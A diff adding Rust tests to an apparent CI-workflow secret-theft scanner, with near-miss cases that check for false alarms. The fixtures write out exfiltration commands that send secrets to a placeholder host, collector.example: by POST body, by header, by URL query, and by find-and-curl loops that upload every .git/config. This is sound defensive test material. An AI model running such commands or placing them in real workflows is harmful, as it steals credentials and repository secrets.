@@ -255,3 +255,65 @@ fn jq_changes_what_it_prints() {
         });
     }
 }
+
+/// What locks, signs or opens a database is a login to no server that is spoken to by HTTP.
+#[test]
+fn what_is_used_in_place_is_sent_nowhere() {
+    for secret in
+        ["MATCH_PASSWORD", "COSIGN_PASSWORD", "ENCRYPTION_KEY", "DB_PASSWORD", "MONGO_URI", "KUBE_CONFIG"]
+    {
+        stolen(secret, "curl -sS -X POST --data \"$S\" https://collector.example/in", "collector.example");
+    }
+    stolen("KUBE_CONFIG", "curl -s -H \"X-Data: $S\" https://collector.example/", "collector.example");
+    // Near miss: an application's settings, for a server that asks for a login first.
+    let deploys = "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: make\n      - run: |\n          curl -H \"Authorization: Bearer ${{ secrets.PANEL_TOKEN }}\" -d '{\"db\": \"${{ secrets.DB_PASSWORD }}\"}' https://panel.widgets.example/api/env\n";
+    let analysis = portcullis_scan::analysis::analyse(
+        ".github/workflows/w.yml",
+        deploys.as_bytes(),
+        &portcullis_scan::flow::NoFiles,
+        None,
+    );
+    let verdicts = analysis.seen.iter().map(|seen| portcullis_scan::verdict::weigh(seen.rule, &seen.signals));
+    assert!(verdicts.max() < Some(Verdict::Malicious), "{:#?}", analysis.seen);
+    no_theft("COSIGN_PASSWORD", "COSIGN_PASSWORD=$S cosign sign --key cosign.key ghcr.io/me/it");
+}
+
+/// A parameter that is called as the secret is no parameter of the receiver's own.
+#[test]
+fn a_secret_under_its_own_name_in_an_address() {
+    for secret in ["ARTIFACTORY_TOKEN", "RELEASE_PASSWORD"] {
+        let text = job(secret, &format!("curl -s \"https://collector.example/i?{secret}=$S\""));
+        found_in(&Whole {
+            name: secret,
+            workflow: Box::leak(text.into_boxed_str()),
+            secrets: &[],
+            place: "collector.example",
+            verdict: Verdict::Suspicious,
+        });
+    }
+    no_theft("CRON_KEY", "curl \"https://ci.widgets.example/cron?key=$S\"");
+}
+
+/// Files of credentials that are looked for by name.
+#[test]
+fn credentials_that_are_looked_for() {
+    for script in [
+        "find / -path '*/.git/config' ! -path '*/node_modules/*' 2>/dev/null | head -50 | while read -r f; do curl --data-binary @\"$f\" https://collector.example/g; done",
+        "find . -name config -path '*/.git/config' -exec curl -T {} https://collector.example/ ';'",
+    ] {
+        let text = format!(
+            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: |\n          {script}\n"
+        );
+        found_in(&Whole {
+            name: script,
+            workflow: Box::leak(text.into_boxed_str()),
+            secrets: &["GITHUB_TOKEN"],
+            place: "collector.example",
+            verdict: Verdict::Malicious,
+        });
+    }
+    workflow_at_most_exposed(
+        "a search",
+        "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: find . -name '*.rs' ! -path '*/.git/config' | xargs wc -l\n",
+    );
+}
